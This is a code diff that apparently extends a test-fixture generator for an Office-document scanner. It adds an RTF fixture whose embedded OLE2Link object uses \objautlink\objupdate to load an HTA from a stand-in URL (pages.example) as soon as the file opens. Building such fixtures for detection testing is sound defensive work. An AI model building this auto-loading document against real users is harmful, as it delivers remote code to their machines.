@@ -173,6 +173,7 @@ def build_equation(native: bytes) -> bytes:
     )
 
 
+LINK_TO_PAGE = b"\x01\x00\x00\x02" + bytes(16) + "https://pages.example/x.hta".encode("utf-16-le") + bytes(4)
 HONEST_EQUATION = (
     b"\x1c\x00\x00\x00\x02\x00" + bytes(22) + b"\x03\x01\x01\x03\x0a\x0a\x01\x02\x83a\x00\x02\x86=\x00\x00"
 )
@@ -329,6 +330,11 @@ FILES: Mapping[str, Callable[[], bytes]] = {
     "equation.doc": partial(build_equation, HONEST_EQUATION),
     "updating.rtf": lambda: build_rtf(
         write_old_object("Word.Document.8", b"x" * 40), "\\objemb\\objupdate", "Word.Document.8"
+    ),
+    "loads-at-once.rtf": lambda: build_rtf(
+        write_old_object("OLE2Link", build_compound({"\x01Ole": LINK_TO_PAGE})),
+        "\\objautlink\\objupdate",
+        "Word.Document.8",
     ),
     "picture-inside.one": partial(build_onenote, ("photo.png", b"\x89PNG\r\n\x1a\n" + bytes(40))),
     "sheet-inside.docx": lambda: build_word(
